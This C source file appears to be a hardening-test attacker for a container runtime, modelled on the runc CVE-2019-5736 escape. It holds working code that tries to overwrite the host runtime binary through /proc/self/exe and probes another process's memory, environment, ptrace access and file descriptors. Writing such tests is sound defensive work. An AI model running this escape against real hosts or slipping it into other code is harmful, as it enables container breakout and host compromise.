/*
 * An attacker for rt's hardening tests (runc CVE-2019-5736 class).
 *
 * It is placed in a container's rootfs as the dynamic loader, so that when
 * the container makes the kernel exec /proc/self/exe (as its entrypoint, or
 * as the interpreter of a "#!/proc/self/exe" script) and that is rt's host
 * binary, this code runs inside the rt process. It reports on stdout:
 *   exe=<where /proc/self/exe points>
 *   open-write=<ok|errno>   opening /proc/self/exe for writing right away
 *   open-path=<ok|errno>    keeping an O_PATH handle on it
 * then execs itself ("phase2 FD"), so that no process of the container runs
 * the binary any more, and for up to 10 s tries to reopen the handle through
 * /proc/self/fd/FD for writing, as the real exploit does once rt has exited:
 *   overwrite=<ok|errno>
 *
 * Two more modes probe from inside a container:
 *   attack probe PID   what a container process can get at of process PID
 *                      (rt's waiting init): its exe, cwd, root, environ, mem,
 *                      ptrace, and its fds through pidfd_getfd
 *   attack fds         the fds it was started with
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *result(int r)
{
	return r >= 0 ? "ok" : strerrorname_np(errno);
}

static void probe(const char *pid)
{
	char path[64], buf[4096];
	static const char *opens[] = {"exe", "environ", "mem", NULL};
	for (int i = 0; opens[i]; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, opens[i]);
		int fd = open(path, O_RDONLY);
		if (fd >= 0 && read(fd, buf, 1) < 0)
			fd = -1;
		printf("open-%s=%s\n", opens[i], result(fd));
	}
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	printf("open-path-exe=%s\n", result(open(path, O_PATH)));
	static const char *links[] = {"exe", "cwd", "root", NULL};
	for (int i = 0; links[i]; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
		printf("readlink-%s=%s\n", links[i], result(readlink(path, buf, sizeof buf)));
	}
	printf("ptrace=%s\n", result(ptrace(PTRACE_SEIZE, atoi(pid), 0, 0)));
	int pidfd = syscall(SYS_pidfd_open, atoi(pid), 0);
	int got = -1;
	for (int fd = 0; pidfd >= 0 && fd < 16 && got < 0; fd++)
		got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
	printf("pidfd_getfd=%s\n", pidfd < 0 ? result(pidfd) : result(got));
}

static void list_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	printf("fds=");
	while (d && (e = readdir(d)))
		if (e->d_name[0] != '.' && atoi(e->d_name) != dirfd(d))
			printf("%s ", e->d_name);
	printf("\n");
}

int main(int argc, char **argv)
{
	char buf[4096];
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 3 && strcmp(argv[1], "probe") == 0) {
		probe(argv[2]);
		return 0;
	}
	if (argc == 2 && strcmp(argv[1], "fds") == 0) {
		list_fds();
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "phase2") == 0) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%s", argv[2]);
		int w = -1;
		for (int i = 0; i < 200 && w < 0; i++) {
			w = open(path, O_WRONLY);
			if (w < 0 && errno != ETXTBSY)
				break;
			if (w < 0)
				nanosleep(&(struct timespec){0, 50000000}, NULL);
		}
		if (w >= 0 && write(w, "PWNED by a container\n", 21) != 21)
			w = -1;
		printf("overwrite=%s\n", result(w));
		return 0;
	}
	ssize_t n = readlink("/proc/self/exe", buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = 0;
	printf("exe=%s\n", buf);
	int w = open("/proc/self/exe", O_WRONLY);
	printf("open-write=%s\n", result(w));
	int fd = open("/proc/self/exe", O_PATH);
	printf("open-path=%s\n", result(fd));
	if (fd < 0)
		return 0;
	char fds[16];
	snprintf(fds, sizeof fds, "%d", fd);
	/* This file is in the container at /attack too. */
	execl("/attack", "/attack", "phase2", fds, (char *)NULL);
	printf("exec-phase2=%s\n", strerrorname_np(errno));
	return 1;
}
